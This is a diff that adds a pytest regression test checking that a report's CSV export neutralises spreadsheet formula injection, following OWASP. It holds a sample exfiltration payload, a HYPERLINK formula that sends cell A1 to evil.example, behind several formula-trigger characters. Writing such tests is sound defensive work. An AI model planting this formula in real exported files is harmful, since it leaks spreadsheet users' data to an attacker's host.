@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 from zoneinfo import ZoneInfo
 
@@ -276,6 +278,29 @@ def test_report_groups_are_the_units_children_and_sum_to_the_total():
     assert csv_lines[0].startswith("unit,name,received,")
     assert csv_lines[-1].startswith("total,")
     assert len(csv_lines) == 1 + 3 + 1
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_report_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(start):
+    """OWASP CSV injection: a value that reached the report from an event opens as text, not a formula."""
+    value = f'{start}HYPERLINK("http://evil.example/?x="&A1,"details")'
+    rows = [(value, Tally(received=1)), ("civil_status", Tally(received=2))]
+    report = assemble(
+        rows,
+        unit="79",
+        first=DUE_AT.date(),
+        last=DUE_AT.date(),
+        group_by="procedure_field",
+        as_of=DUE_AT,
+        registry=UnitRegistry.default(),
+    )
+    parsed = list(csv.reader(io.StringIO(report.to_csv())))
+    forged = next(
+        row for row in parsed if row[0].endswith('HYPERLINK("http://evil.example/?x="&A1,"details")')
+    )
+    assert forged[0] == "'" + value and forged[1] == "'" + value
+    assert forged[2] == "1"  # figures stay numbers
+    assert parsed[-1][:3] == ["total", UnitRegistry.default().get("79").name, "3"]
 
 
 class Row:
